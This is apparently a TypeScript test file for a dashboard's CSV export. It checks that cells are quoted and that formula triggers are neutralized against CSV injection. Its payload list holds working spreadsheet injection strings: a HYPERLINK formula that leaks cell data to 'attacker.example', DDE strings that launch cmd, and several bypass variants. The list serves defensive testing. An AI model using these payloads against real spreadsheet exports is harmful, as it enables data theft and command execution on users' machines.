import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, neutralizeFormulas } from '@/lib/dashboard/csv';

/*
 * CSV injection (OWASP "CSV Injection"): no cell, and no part of a cell a spreadsheet might take for a
 * cell of its own, may start with a formula trigger. The payloads are OWASP's and the bypasses
 * reported against exports that only checked the first character.
 */

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/** The value a spreadsheet reads from one of our cells that honours the quoting: the text between the quotes. */
const unquote = (cell: string) => {
  expect(cell.startsWith('"') && cell.endsWith('"')).toBe(true);
  return cell.slice(1, -1).replace(/""/g, '"');
};

/**
 * Every cell start a spreadsheet could see in the cell's text: the whole text, and each part after a
 * separator it may split on (comma, semicolon, tab, a line break), with the whitespace and quote marks
 * some spreadsheets strip in front of a value removed. None may start with a trigger.
 */
function formulaStarts(cell: string): string[] {
  const parts = [cell, unquote(cell), ...unquote(cell).split(/[,;\t\r\n]/)];
  return parts
    .map((part) => part.replace(/^[\s"]+/, ''))
    .filter((part) => TRIGGERS.some((t) => part.startsWith(t)));
}

const PAYLOADS = [
  // OWASP's examples.
  '=1+2',
  '=HYPERLINK("http://attacker.example/?leak="&A1,"Error: click for details")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  '\t=1+2',
  '\r=1+2',
  // A later part of the cell, for spreadsheets that split on ; (most of Europe), tabs or commas.
  'text;=HYPERLINK("http://attacker.example","x")',
  'text,=1+2',
  'text\t=1+2',
  'text;-2+3',
  'a;b;@SUM(A1)',
  'line one\n=1+2',
  'line one\r\n+1',
  // Quote marks and whitespace a spreadsheet strips before it looks at the first character.
  '"=1+2"',
  'x;"=1+2"',
  '  =1+2',
  'x; =1+2',
  "'=1+2",
  '\u00a0=1+2',
  // Full-width forms some spreadsheets fold to ASCII.
  '＝1+2',
  'x;＋1',
  '＠SUM(1)',
  '－1',
];

describe('CSV cells', () => {
  it.each(PAYLOADS)('%j reaches no spreadsheet as a formula', (payload) => {
    const cell = csvCell(payload);
    expect(formulaStarts(cell)).toEqual([]);
  });

  it("defuses each formula part with a ' in front and keeps the rest of the text as it was", () => {
    expect(csvCell('=1+2')).toBe(`"'=1+2"`);
    expect(csvCell('text;=HYPERLINK("u","x")')).toBe(`"text;'=HYPERLINK(""u"",""x"")"`);
    expect(csvCell('"=1+2"')).toBe(`"'""=1+2"""`);
    expect(csvCell('  =1')).toBe(`"'  =1"`);
    expect(csvCell('\t=1')).toBe(`"'\t'=1"`);
    expect(neutralizeFormulas('a,-b;+c\t@d')).toBe("a,'-b;'+c\t'@d");
    expect(neutralizeFormulas('＝1')).toBe("'＝1");
  });

  it('quotes every cell, doubling quote marks, and leaves harmless text alone', () => {
    expect(csvCell('https://example.com/a?b=1&c=2')).toBe('"https://example.com/a?b=1&c=2"');
    expect(csvCell('say "hi", then leave')).toBe('"say ""hi"", then leave"');
    expect(csvCell('a - b; c @ d')).toBe('"a - b; c @ d"');
    expect(csvCell('')).toBe('""');
    expect(csvCell(null)).toBe('""');
    expect(csvCell(undefined)).toBe('""');
  });

  it('keeps numbers the service wrote as numbers, quoted', () => {
    expect(csvCell(404)).toBe('"404"');
    expect(csvCell(-3)).toBe('"-3"');
    expect(csvCell(0.5)).toBe('"0.5"');
    // A number held as text came from somewhere else and is treated as text.
    expect(csvCell('-3')).toBe(`"'-3"`);
  });

  it('writes a line of quoted cells ending in CRLF', () => {
    expect(csvLine(['a', 1, null, '=x'])).toBe(`"a","1","","'=x"\r\n`);
  });
});
